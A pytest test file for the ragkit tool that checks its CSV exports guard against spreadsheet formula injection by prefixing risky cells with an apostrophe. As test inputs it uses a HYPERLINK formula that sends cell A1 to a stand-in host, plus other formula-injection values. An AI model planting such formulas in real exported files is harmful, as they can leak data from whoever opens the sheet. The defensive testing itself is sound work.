"""Every CSV ragkit writes opens in a spreadsheet as text: a cell starting with = + - @ (or a
tab or line break) gets a leading ' (OWASP's CSV injection advice), numbers stay numbers.
`ragkit eval --per-query` and a sweep's sweep.csv wrote `=HYPERLINK(...)` as is, which a
spreadsheet runs as a formula when the file is opened."""
from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import nbformat
import pandas as pd
import pytest
from nbformat.v4 import new_code_cell, new_notebook

from ragkit.cookbook import sweep
from ragkit.sheet_cells import csv_text, sheet_cell, unsheet_cell

RAGKIT = Path(sys.executable).parent / "ragkit"
LINK = '=HYPERLINK("http://x.example/?"&A1,"open")'


def _eval(*args: str) -> subprocess.CompletedProcess:
    done = subprocess.run([str(RAGKIT), "eval", *args], capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr
    return done


def test_the_per_query_csv_of_a_data_set_guards_ids_and_kinds(tmp_path: Path) -> None:
    data = tmp_path / "mine"
    (data / "golden").mkdir(parents=True)
    (data / "documents.jsonl").write_text(
        json.dumps({"id": "d1", "text": "alpha apple"}) + "\n"
        + json.dumps({"id": "d2", "text": "bravo banana"}) + "\n")
    (data / "golden" / "g.jsonl").write_text("".join(json.dumps(q) + "\n" for q in [
        {"id": LINK, "text": "alpha", "kind": "@SUM(A1)", "golden": [{"doc_id": "d1"}]},
        {"id": "-2+3", "text": "bravo", "kind": "\tlexical", "golden": [{"doc_id": "d2"}]},
        {"id": "q3", "text": "apple", "kind": "+paraphrase", "golden": [{"doc_id": "d2"}]}]))
    rows = tmp_path / "rows.csv"
    _eval(str(data), "--embedder", "none", "--mode", "bm25", "--k", "5", "--per-query",
          str(rows))
    lines = rows.read_text().splitlines()
    assert lines[0] == "query,method,kind,first_relevant_rank,Pass@5,R@5,MRR,nDCG@5"
    assert [line.rsplit(",", 7)[1:5] for line in lines[1:]] == [
        ["bm25", "'@SUM(A1)", "1", "100.0"],
        ["bm25", "'\tlexical", "1", "100.0"],
        ["bm25", "'+paraphrase", "", "0.0"]]
    quoted = LINK.replace('"', '""')
    assert [line.split(",bm25,")[0] for line in lines[1:]] == [f'"\'{quoted}"', "'-2+3", "q3"]
    back = pd.read_csv(rows, keep_default_na=False)
    assert back["query"].map(unsheet_cell).tolist() == [LINK, "-2+3", "q3"]


def test_the_per_query_csv_of_a_run_guards_the_run_s_name(tmp_path: Path) -> None:
    """A run file's name is its method: `=cmd.trec` wrote the method `=cmd`."""
    run, qrels, rows = tmp_path / "=cmd.trec", tmp_path / "qrels.txt", tmp_path / "rows.csv"
    run.write_text("q1 Q0 d1 1 2.5 t\nq1 Q0 d2 2 1.5 t\n")
    qrels.write_text("q1 0 d2 1\n")
    _eval("--run", str(run), "--qrels", str(qrels), "--k", "5", "--per-query", str(rows))
    assert rows.read_text().splitlines()[1] == "q1,'=cmd,,2,100.0,1.0,0.5,0.6309297535714575"


def test_sweep_csv_guards_swept_texts_and_leaves_negative_numbers(tmp_path: Path,
                                                                  monkeypatch) -> None:
    monkeypatch.setenv("RAGKIT_HOME", str(tmp_path / "home"))
    nb = new_notebook()
    first = new_code_cell("label = 'x'")
    first.metadata["tags"] = ["parameters"]
    nb.cells = [first, new_code_cell("from ragkit.cookbook import record\n"
                                     "record('delta', -1.5)")]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    nbformat.write(nb, tmp_path / "01_tiny.ipynb")
    sweep(str(tmp_path / "01_tiny.ipynb"), tmp_path / "out", {"label": ["=1+2", "-x", "y"]})
    assert (tmp_path / "out" / "sweep.csv").read_text().splitlines() == [
        "label,delta,error", "'=1+2,-1.5,", "'-x,-1.5,", "y,-1.5,"]


@pytest.mark.parametrize("text, cell", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("'=1", "''=1"), ("'quoted'", "'quoted'"), ("a=1", "a=1"), ("", "")])
def test_a_text_cell_is_guarded_and_read_back_whole(text: str, cell: str) -> None:
    assert (sheet_cell(text), unsheet_cell(sheet_cell(text))) == (cell, text)


def test_csv_text_guards_text_cells_and_names_but_not_numbers() -> None:
    table = pd.DataFrame({"name": ["-x", "y", None], "-n": [-1.5, 2.0, float("nan")],
                          "rank": pd.array([-1, None, 3], dtype="Int64"),
                          "mixed": ["=a", -2, "b"]})
    assert csv_text(table).splitlines() == [
        "name,'-n,rank,mixed", "'-x,-1.5,-1,'=a", "y,2.0,,-2", ",,3,b"]
    assert table["name"].tolist()[:2] == ["-x", "y"]  # the caller's table is left as it was
